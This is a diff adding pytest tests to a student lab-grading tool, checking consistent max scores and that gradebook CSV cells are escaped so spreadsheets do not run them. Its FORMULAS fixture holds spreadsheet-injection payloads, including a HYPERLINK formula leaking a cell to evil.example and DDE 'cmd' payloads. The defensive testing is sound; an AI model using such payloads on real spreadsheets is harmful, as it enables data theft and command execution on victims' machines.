@@ -412,3 +412,54 @@ def test_every_student_graded_exits_0_and_only_regrades_some(tmp_path):
     assert rows["bob"]["status"] == "could not check" and rows["bob"]["guest"].endswith(str(closed))
     assert rows["zoe"]["total"] == "1"
     assert (out / "alice" / "results.json").read_bytes() == alice_before  # not graded again
+
+
+# --- the gradebook's max, and cells a spreadsheet would run ------------------------------------
+
+@pytest.mark.server
+def test_every_student_of_a_run_has_the_same_max(tmp_path):
+    """The good step has a check of Vagrant VMs only: it counts for no student graded over
+    ssh:// or local://, nor for one who could not be checked at all."""
+    roster = write_roster(tmp_path, f"student,guest\nalice,local://\nbob,ssh://root@127.0.0.1:{free_port()}\n")
+    run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good,mixed", cwd=tmp_path)
+    assert run.returncode == 2
+    _, rows = read_book(tmp_path / "grades" / "gradebook.csv")
+    assert [rows[name]["status"] for name in ("alice", "bob")] == ["graded", "could not check"]
+    assert rows["alice"]["max"] == rows["bob"]["max"] == "12"
+    results = json.loads((tmp_path / "grades" / "alice" / "results.json").read_text(encoding="utf-8"))
+    assert results["max_score"] == 12
+
+
+FORMULAS = {"student": '=HYPERLINK("http://evil.example/?"&A1,"click")', "section": "+1+cmd|' /C calc'!A0",
+            "email": "@SUM(1+1)*cmd|' /C calc'!A0", "note": "-2+3", "tabbed": "\t=1+1", "returned": "\r=1+1"}
+
+
+@pytest.mark.server
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
+    import pandas
+
+    columns = list(FORMULAS)
+    roster = tmp_path / "roster.csv"
+    with open(roster, "w", newline="", encoding="utf-8") as f:
+        writer = csv.writer(f)
+        writer.writerow(["student", "guest", *columns[1:]])
+        writer.writerow([FORMULAS["student"], "local://", *(FORMULAS[c] for c in columns[1:])])
+        writer.writerow(["plain", "local://", "A", "a@example.org", "3", "x", "y"])
+    assert lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", cwd=tmp_path).returncode == 0
+    book = tmp_path / "grades" / "gradebook.csv"
+    _, rows = read_book(book)
+    row = rows["'" + FORMULAS["student"]]
+    assert {c: row[c] for c in columns} == {c: "'" + value for c, value in FORMULAS.items()}
+    assert (row["total"], row["max"], row["status"]) == ("6", "6", "graded")
+    assert {c: rows["plain"][c] for c in columns[1:]} == dict(zip(columns[1:], ["A", "a@example.org", "3", "x", "y"]))
+
+    frame = pandas.read_csv(book, encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    cells = [cell for column in frame.columns for cell in frame[column]]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+    # Graded again with --only: the student is found again under the name the roster gives.
+    assert lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", "--only", "plain",
+                     cwd=tmp_path).returncode == 0
+    _, again = read_book(book)
+    assert list(again) == ["'" + FORMULAS["student"], "plain"]
+    assert again["'" + FORMULAS["student"]]["section"] == "'" + FORMULAS["section"]
